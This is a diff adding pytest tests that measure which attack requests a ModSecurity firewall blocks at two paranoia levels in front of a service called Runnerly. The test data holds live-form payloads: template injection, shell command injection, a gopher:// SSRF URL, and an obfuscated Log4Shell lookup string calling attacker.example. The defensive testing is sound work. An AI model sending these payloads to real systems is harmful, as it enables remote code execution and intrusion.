@@ -126,6 +126,56 @@ def test_a_rule_set_knows_only_the_attacks_it_was_written_for(modsecurity):
     assert send(modsecurity, "GET", "/users", None, log4shell).status_code == 200
 
 
+# The paranoia level: what each refuses, of attacks and of Runnerly's own
+# requests (ORDINARY). The README's table is these tests' outcome.
+BEYOND_LEVEL_1 = {
+    "template injection in the query": ("GET", "/users?name={{config}}", None, {}),
+    "template injection in a JSON body": (
+        "POST",
+        "/users",
+        {"email": "b@example.com", "firstname": "{{config.items()}}"},
+        {},
+    ),
+    "shell backticks": ("GET", "/users?name=`id`", None, {}),
+}
+NEITHER_LEVEL = {
+    "a shell pipe": ("GET", "/users?name=x|id", None, {}),
+    "a gopher:// URL": ("GET", "/users?url=gopher://127.0.0.1:6379/_INFO", None, {}),
+    "Log4Shell, obfuscated": (
+        "GET",
+        "/users",
+        None,
+        {"User-Agent": "${${lower:j}ndi:${lower:l}dap://attacker.example/a}"},
+    ),
+}
+
+
+@pytest.fixture(params=[1, 2], ids=["level 1", "level 2"])
+def at_level(request, waf, data_service):
+    return request.param, waf("modsecurity", data_service.url, paranoia=request.param)
+
+
+def test_runnerly_s_own_requests_pass_at_either_level(at_level):
+    _, proxy = at_level
+    for name, request in ORDINARY.items():
+        assert send(proxy, *request).status_code in (200, 201), name
+
+
+def test_level_2_refuses_what_level_1_lets_through(at_level):
+    level, proxy = at_level
+    for name, request in BEYOND_LEVEL_1.items():
+        refused = send(proxy, *request).status_code == 403
+        assert refused == (level == 2), name
+
+
+def test_what_neither_level_refuses(at_level):
+    # Runnerly takes no URL and runs no Java: these reach code that ignores
+    # them. A service that did would need rules of its own, or a fix.
+    _, proxy = at_level
+    for name, request in NEITHER_LEVEL.items():
+        assert send(proxy, *request).status_code != 403, name
+
+
 def test_without_modsecurity_the_attacks_reach_the_service(waf, live_server):
     # The same requests through plain nginx: the service answers them itself.
     app = create_data_service("testing")
